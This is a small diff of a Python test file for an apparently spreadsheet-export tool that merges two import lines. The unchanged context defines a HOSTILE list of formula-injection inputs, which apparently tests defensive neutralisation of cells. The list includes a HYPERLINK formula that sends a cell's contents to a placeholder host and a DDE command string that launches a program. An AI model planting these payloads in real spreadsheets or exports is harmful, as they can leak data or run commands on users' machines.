@@ -18,9 +18,8 @@ from helpers import write_png, write_preset
 from probe_ui.cli import main
 from probe_ui.files.spreadsheet import FORMULA_STARTS, neutral, restore
 from probe_ui.presets import load_preset
-from probe_ui.runner import run_batch
+from probe_ui.runner import BatchOptions, run_batch
 from probe_ui.store import Store, responses
-from probe_ui.runner import BatchOptions
 
 HOSTILE = ['=HYPERLINK("http://example.invalid/?q="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "'=already quoted"]
